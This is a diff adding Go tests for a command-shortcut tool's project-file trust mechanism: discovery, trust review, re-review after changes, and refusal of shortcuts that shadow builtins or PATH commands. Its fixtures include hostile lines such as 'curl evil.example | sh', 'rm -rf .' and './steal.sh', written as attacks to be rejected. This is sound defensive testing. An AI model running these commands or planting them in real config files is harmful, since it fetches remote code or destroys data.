@@ -0,0 +1,146 @@
+package shortcuts
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+// writeShortcutsFile creates dir/.dolly/shortcuts.yml with the given content:
+// the global file when dir is $HOME, a project file otherwise.
+func writeShortcutsFile(t *testing.T, dir, content string) string {
+	t.Helper()
+	path := filepath.Join(dir, ".dolly", "shortcuts.yml")
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestFindProjectFileWalksUp(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	repo := t.TempDir()
+	want := writeShortcutsFile(t, repo, "shortcuts:\n  migrate: make migrate\n")
+	deep := filepath.Join(repo, "services", "api", "cmd")
+	os.MkdirAll(deep, 0755)
+
+	if got := FindProjectFile(deep); got != want {
+		t.Errorf("FindProjectFile(%s) = %q, want %q", deep, got, want)
+	}
+	if got := FindProjectFile(t.TempDir()); got != "" {
+		t.Errorf("expected no project file outside the repo, got %q", got)
+	}
+}
+
+func TestFindProjectFileSkipsGlobal(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	// ~/.dolly/shortcuts.yml is the global layer, not a project file
+	writeShortcutsFile(t, home, "shortcuts:\n  gs: git status\n")
+
+	if got := FindProjectFile(filepath.Join(home, "src")); got != "" {
+		t.Errorf("global file must not be picked up as a project file, got %q", got)
+	}
+}
+
+func TestLoadProject(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	repo := t.TempDir()
+	path := writeShortcutsFile(t, repo, "shortcuts:\n  migrate: make migrate\n  seed: ./scripts/seed.sh\n")
+	if _, _, err := Trust(repo); err != nil {
+		t.Fatalf("Trust: %v", err)
+	}
+
+	sc, got, err := LoadProject(repo)
+	if err != nil {
+		t.Fatalf("LoadProject: %v", err)
+	}
+	if got != path || sc["migrate"].Command != "make migrate" || sc["seed"].Command != "./scripts/seed.sh" {
+		t.Errorf("LoadProject = %v, %q", sc, got)
+	}
+
+	sc, got, err = LoadProject(t.TempDir())
+	if err != nil || got != "" || len(sc) != 0 {
+		t.Errorf("no project file: got %v, %q, %v", sc, got, err)
+	}
+}
+
+func TestLoadProjectNeedsTrust(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	repo := t.TempDir()
+	path := writeShortcutsFile(t, repo, "shortcuts:\n  migrate: make migrate\n")
+
+	if sc, _, err := LoadProject(repo); !errors.Is(err, ErrUntrusted) || len(sc) != 0 {
+		t.Fatalf("untrusted file: got %v, %v", sc, err)
+	}
+	if _, _, err := Trust(filepath.Join(repo, "sub")); err != nil {
+		t.Fatalf("Trust from a subdirectory: %v", err)
+	}
+	if sc, _, err := LoadProject(repo); err != nil || len(sc) != 1 {
+		t.Fatalf("trusted file: got %v, %v", sc, err)
+	}
+
+	// A change, e.g. from git pull, needs a new review
+	os.WriteFile(path, []byte("shortcuts:\n  migrate: curl evil.example | sh\n"), 0644)
+	if _, _, err := LoadProject(repo); !errors.Is(err, ErrUntrusted) {
+		t.Errorf("changed file should be untrusted, got %v", err)
+	}
+
+	Trust(repo)
+	if got, err := Untrust(repo); err != nil || got != path {
+		t.Fatalf("Untrust = %q, %v", got, err)
+	}
+	if _, _, err := LoadProject(repo); !errors.Is(err, ErrUntrusted) {
+		t.Errorf("untrusted again, got %v", err)
+	}
+}
+
+func TestLoadProjectRejectsUnsafeNames(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	bin := t.TempDir()
+	if err := os.WriteFile(filepath.Join(bin, "terraform"), []byte("#!/bin/sh\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
+
+	for _, content := range []string{
+		"shortcuts:\n  cd: rm -rf .\n",          // shadows a builtin
+		"shortcuts:\n  terraform: ./steal.sh\n", // shadows a command on PATH
+		"shortcuts:\n  db-reset: make reset\n",  // not an identifier
+		"shortcuts: [not, a, map]\n",
+	} {
+		repo := t.TempDir()
+		writeShortcutsFile(t, repo, content)
+		if _, _, err := Trust(repo); err == nil {
+			t.Errorf("%q: Trust should refuse the file", content)
+		}
+		sc, _, err := LoadProject(repo)
+		if err == nil || len(sc) != 0 {
+			t.Errorf("%q: expected an error and no shortcuts, got %v, %v", content, sc, err)
+		}
+	}
+}
+
+func TestSources(t *testing.T) {
+	sources := Sources(
+		FromCommands(map[string]string{"gs": "a", "fd": "a"}),
+		FromCommands(map[string]string{"gs": "b", "deploy": "b"}),
+		FromCommands(map[string]string{"deploy": "c", "migrate": "c"}),
+		FromCommands(map[string]string{"migrate": "d"}),
+	)
+	want := map[string]string{
+		"fd":      SourceDefault,
+		"gs":      SourceGlobal,
+		"deploy":  SourceProject,
+		"migrate": SourceSession,
+	}
+	for name, src := range want {
+		if sources[name] != src {
+			t.Errorf("Sources[%q] = %q, want %q", name, sources[name], src)
+		}
+	}
+}